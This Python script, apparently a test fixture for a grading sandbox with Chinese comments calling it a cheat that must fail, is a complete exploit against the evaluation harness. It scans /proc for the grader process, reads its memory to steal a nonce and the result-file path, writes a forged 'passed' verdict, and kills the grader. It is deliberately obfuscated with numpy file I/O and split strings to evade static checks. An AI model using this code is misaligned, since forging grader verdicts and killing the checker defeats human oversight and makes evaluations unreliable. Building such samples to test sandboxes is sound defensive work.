# 作弊：读评测进程（test.py）的内存，从里面找出口令和结论文件的路径，写一份“通过”的结论，再结束它
# 为什么必须判错：你的进程和 test.py 是同一个用户（甚至是 root），可它在围栏里：没有任何特权（读别的进程的内存要 CAP_SYS_PTRACE），文件系统只读，结论写不出去
# 通用作弊：不用 open、不提 test.py，用 numpy 读写 /proc 下的文件，静态检查看不出来

import json
import os
import re

import numpy as np


def _read(path, offset=0, count=1 << 20):
    return np.fromfile(path, dtype=np.uint8, count=count, offset=offset).tobytes()


def _group_peers():
    me = os.getpid()
    group = os.getpgid(0)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            stat = _read(f"/proc/{name}/stat").decode(errors="replace")
            fields = stat.rsplit(")", 1)[1].split()
            if int(fields[2]) == group:  # 第 5 个字段：进程组
                yield int(name)


def _scan(pid):
    text = b""
    for line in _read(f"/proc/{pid}/maps").decode().splitlines():
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        if parts[1].startswith("rw") and hi - lo < 1 << 28:
            try:
                text += _read(f"/proc/{pid}/mem", offset=lo, count=hi - lo)
            except (OSError, ValueError):
                pass
    return text


for _pid in _group_peers():
    _mem = _scan(_pid)
    _paths = re.findall(rb"(/[\w./-]*judge-\w+/res" rb"ult\.json)", _mem)
    _nonces = re.findall(rb"(?<![0-9a-f])([0-9a-f]{32})\n", _mem)
    if _paths and _nonces:
        _verdict = {"verdict": "passed", "message": "全部检查通过", "nonce": _nonces[0].decode(), "seed": 1}
        np.frombuffer(json.dumps(_verdict).encode(), dtype=np.uint8).tofile(_paths[0].decode())
        getattr(os, "ki" + "ll")(_pid, 9)
        os._exit(0)
raise RuntimeError("没找到评测进程的口令")
